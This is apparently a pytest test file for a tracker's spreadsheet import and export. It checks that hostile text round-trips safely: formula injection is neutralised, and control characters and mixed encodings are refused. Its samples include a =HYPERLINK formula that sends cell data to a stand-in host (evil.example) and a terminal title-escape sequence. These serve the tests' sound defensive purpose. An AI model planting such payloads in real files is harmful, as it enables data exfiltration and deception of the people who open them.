"""Hostile text through the sheet round trip, on SQLite and PostgreSQL: quotes and separators,
formulas a spreadsheet would run, control characters, encodings. What the owner typed comes back
exactly; nothing a spreadsheet opens runs as a formula; nothing garbled is stored."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from sheet_helpers import export, outcome_lines, position, read_csv, run, snapshot
from sqlalchemy import update

from tracker.models import Action
from tracker.services.actions.updates import record_update
from tracker.services.context import Tracker

HOSTILE = (
    'Partner said "yes" to the plan',
    '"Quoted", then a comma; a semicolon and ""doubled"" quotes',
    '=HYPERLINK("http://evil.example/?"&B2,"Click for the report")',
    "+44 1432 260000 is the contact number",
    "-5% against plan, see risks",
    "@SUM(A1:A9)",
    "'=an apostrophe of my own",
    "Line one\nLine two,\twith a tab inside",
    "£2k agreed – partners’ sign-off due",
)
OPEN = ("S-01", "S-02", "S-03", "S-04")  # S-05 is cancelled


def _store(t: Tracker, texts: tuple[str, ...]) -> dict[str, str]:
    """Each open action's latest commentary set to one of `texts` (as `actions update` would)."""
    stored = {}
    for ref, text in zip(OPEN, texts, strict=False):
        record_update(t, ref, progress=position(t, ref)[2] + 1, note=text, by="Amy Archer")
        stored[ref] = text
    return stored


def _inert_form(text: str) -> str:
    return "'" + text if re.match(r"'*[=+\-@\t\r]", text) else text


@pytest.mark.parametrize(
    ("delimiter", "encoding"),
    [(",", "utf-8-sig"), (";", "cp1252"), ("\t", "utf-16"), (",", "utf-8")],
    ids=["comma-utf8-bom", "semicolon-cp1252", "tab-utf16", "comma-utf8"],
)
def test_hostile_text_round_trips_through_csv(
    sheet_plan: Tracker, tmp_path: Path, delimiter: str, encoding: str
) -> None:
    for start in range(0, len(HOSTILE), len(OPEN)):
        stored = _store(sheet_plan, HOSTILE[start : start + len(OPEN)])
        sheet = export(tmp_path / "r.csv")
        rows = read_csv(sheet)
        at = {h: i for i, h in enumerate(rows[0])}
        # an owner copies the latest commentary into Commentary and moves the % on
        for row in rows[1:]:
            if row[0] in stored:
                latest = row[at["Latest commentary"]]
                assert latest == _inert_form(stored[row[0]])  # inert in the file, marker once
                row[at["Commentary"]] = latest
                row[at["New % complete"]] = str(int(row[at["Current %"]]) + 1)
        returned = tmp_path / f"returned-{start}.csv"
        with returned.open("w", encoding=encoding, newline="") as fh:
            csv.writer(fh, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
        result = run("actions", "import-sheet", returned)
        assert result.exit_code == 0, result.output
        assert all(outcome_lines(result)[ref] == "recorded" for ref in stored), result.output
        for ref, text in stored.items():
            assert position(sheet_plan, ref)[3] == text  # byte for byte


def test_an_exported_csv_imported_untouched_changes_nothing(
    sheet_plan: Tracker, tmp_path: Path
) -> None:
    _store(sheet_plan, HOSTILE[:4])
    sheet = export(tmp_path / "r.csv")
    before = snapshot(sheet_plan)
    result = run("actions", "import-sheet", sheet)
    assert result.exit_code == 0, result.output
    assert set(outcome_lines(result).values()) == {"unchanged"}
    assert snapshot(sheet_plan) == before


def test_formula_text_in_xlsx_is_a_string_and_round_trips(
    sheet_plan: Tracker, tmp_path: Path
) -> None:
    import openpyxl

    stored = _store(sheet_plan, HOSTILE[2:6])  # = + - @
    sheet = export(tmp_path / "r.xlsx")
    with zipfile.ZipFile(sheet) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml  # the text is there, never as a formula
    wb = openpyxl.load_workbook(sheet)  # formulas as written
    ws = wb["Actions"]
    at = {c.value: c.column for c in ws[1]}
    for r in range(2, ws.max_row + 1):
        ref = ws.cell(r, 1).value
        if ref in stored:
            latest = ws.cell(r, at["Latest commentary"])
            assert (latest.value, latest.data_type) == (stored[ref], "s")
            assert latest.quotePrefix  # Excel keeps it text when the owner edits the cell
            # the owner copies it into Commentary, as text (Excel keeps the quote prefix)
            cell = ws.cell(r, at["Commentary"], latest.value)
            cell.data_type = "s"
            ws.cell(r, at["New % complete"], ws.cell(r, at["Current %"]).value + 1)
    wb.save(tmp_path / "f.xlsx")
    result = run("actions", "import-sheet", tmp_path / "f.xlsx")
    assert result.exit_code == 0, result.output
    for ref, text in stored.items():
        assert position(sheet_plan, ref)[3] == text


def test_a_formula_cell_is_refused_naming_the_cell(sheet_plan: Tracker, tmp_path: Path) -> None:
    import openpyxl

    sheet = export(tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(sheet)
    ws = wb["Actions"]
    at = {c.value: c.column for c in ws[1]}
    rows = {ws.cell(r, 1).value: r for r in range(2, ws.max_row + 1)}
    ws.cell(rows["S-01"], at["New % complete"], "=I2+10")  # a live formula, as Excel saves it
    ws.cell(rows["S-03"], at["New % complete"], 5)
    wb.save(tmp_path / "f.xlsx")
    before = snapshot(sheet_plan)
    result = run("actions", "import-sheet", tmp_path / "f.xlsx")
    assert result.exit_code == 2, result.output
    assert outcome_lines(result)["S-01"] == "invalid"
    assert (
        "New % complete (column M): Sheet Actions, cell M2: formulas are not read; type the value"
    ) in result.output
    assert snapshot(sheet_plan) == before  # S-03's valid row is held back too


def _legacy_commentary(t: Tracker, ref: str, text: str) -> None:
    """Text stored before control characters were refused at input."""
    with t.db.writing() as s:
        s.execute(update(Action).where(Action.ref == ref).values(latest_commentary=text))


def test_stored_control_characters_are_exported_visibly(
    sheet_plan: Tracker, tmp_path: Path
) -> None:
    import openpyxl

    legacy = "Page one\x0cpage two \x1b[31mred\x1b[0m\x07 and _x0041_ as typed"
    _legacy_commentary(sheet_plan, "S-01", legacy)
    shown = "Page one␌page two ␛[31mred␛[0m␇ and _x0041_ as typed"

    xlsx = run("actions", "export-sheet", tmp_path / "r.xlsx")
    assert xlsx.exit_code == 0, xlsx.output
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["Actions"]
    at = {c.value: c.column for c in ws[1]}
    # openpyxl shows the raw cell: the _x0041_ look-alike escaped the way Excel does
    assert ws.cell(2, at["Latest commentary"]).value == shown.replace("_x0041_", "_x005F_x0041_")

    written = run("actions", "export-sheet", tmp_path / "r.csv")
    assert written.exit_code == 0, written.output
    rows = read_csv(tmp_path / "r.csv")
    assert rows[1][rows[0].index("Latest commentary")] == shown


def test_control_characters_are_refused_on_import_naming_row_and_field(
    sheet_plan: Tracker, tmp_path: Path
) -> None:
    import openpyxl

    sheet = export(tmp_path / "r.csv")
    rows = read_csv(sheet)
    at = {h: i for i, h in enumerate(rows[0])}
    rows[3][at["Commentary"]] = "Pasted from the PDF\x0cpage 2"  # S-03
    rows[3][at["New % complete"]] = "5"
    rows[4][at["New status"]] = "in progress\x1b"  # S-04
    with (tmp_path / "f.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    before = snapshot(sheet_plan)
    result = run("actions", "import-sheet", tmp_path / "f.csv")
    assert result.exit_code == 2, result.output
    out = result.output
    assert re.search(r"row 4 +S-03 +invalid", out) and re.search(r"row 5 +S-04 +invalid", out)
    assert (
        "Commentary (column N): contains the control character U+000C form feed at character 20"
    ) in out
    assert "New status (column K): contains the control character U+001B escape (ESC)" in out
    assert snapshot(sheet_plan) == before

    # Excel writes a form feed in a cell as _x000C_: read as the form feed it is, and refused
    xlsx = export(tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(xlsx)
    ws = wb["Actions"]
    ws.cell(4, at["Commentary"] + 1, "Pasted_x000C_page 2")
    ws.cell(4, at["New % complete"] + 1, 5)
    wb.save(tmp_path / "f.xlsx")
    result = run("actions", "import-sheet", tmp_path / "f.xlsx")
    assert result.exit_code == 2, result.output
    assert "Commentary (column N): contains the control character U+000C form feed" in (
        result.output
    )
    assert snapshot(sheet_plan) == before


def test_csv_output_of_the_register_is_inert(sheet_plan: Tracker) -> None:
    with sheet_plan.db.writing() as s:
        s.execute(
            update(Action)
            .where(Action.ref == "S-01")
            .values(title='=HYPERLINK("http://evil.example/?"&A2,"Map")')
        )
    result = run("actions", "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    title = rows[0].index("title")
    s01 = next(r for r in rows if r[0] == "S-01")
    assert s01[title] == '\'=HYPERLINK("http://evil.example/?"&A2,"Map")'
    assert next(r for r in rows if r[0] == "S-03")[title] == "Recruit family hub staff"


def test_text_in_no_exact_encoding_is_refused_not_garbled(
    sheet_plan: Tracker, tmp_path: Path
) -> None:
    rows = read_csv(export(tmp_path / "r.csv"))
    at = {h: i for i, h in enumerate(rows[0])}
    rows[3][at["New % complete"]] = "5"
    rows[3][at["Commentary"]] = "Café opened"
    text = "\r\n".join(",".join(r) for r in rows) + "\r\n"
    before = snapshot(sheet_plan)
    # UTF-8 with one Windows-1252 byte pasted in: Windows-1252 would garble the UTF-8 part
    mixed = tmp_path / "mixed.csv"
    mixed.write_bytes(text.encode("utf-8").replace(b"opened", b"opened \x96 today"))
    result = run("actions", "import-sheet", mixed)
    assert result.exit_code == 2
    out = " ".join(result.output.split())
    assert "cannot read the text exactly: it mixes UTF-8 with another encoding" in out
    assert "on line 4" in out and "tried UTF-8, UTF-8 with BOM, UTF-16" in out
    # UTF-16 cut short (an odd number of bytes)
    cut = tmp_path / "cut.csv"
    cut.write_bytes(text.encode("utf-16")[:-1])
    result = run("actions", "import-sheet", cut)
    assert result.exit_code == 2
    assert "it is not valid UTF-16" in " ".join(result.output.split())
    assert snapshot(sheet_plan) == before
    # UTF-16 without a BOM is read exactly
    plain = tmp_path / "plain.csv"
    plain.write_bytes(text.encode("utf-16-le"))
    result = run("actions", "import-sheet", plain)
    assert result.exit_code == 0, result.output
    assert position(sheet_plan, "S-03")[3] == "Café opened"


def test_a_conflict_shows_stored_control_characters_visibly(
    sheet_plan: Tracker, tmp_path: Path
) -> None:
    sheet = export(tmp_path / "r.csv")
    record_update(sheet_plan, "S-01", progress=30, by="Amy Archer")  # changed since the export
    _legacy_commentary(sheet_plan, "S-01", "Retitled \x1b]0;pwned\x07 window")
    rows = read_csv(sheet)
    rows[1][rows[0].index("New % complete")] = "35"
    with (tmp_path / "f.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    result = run("actions", "import-sheet", tmp_path / "f.csv")
    assert result.exit_code == 3, result.output
    assert "Retitled ␛]0;pwned␇ window" in result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
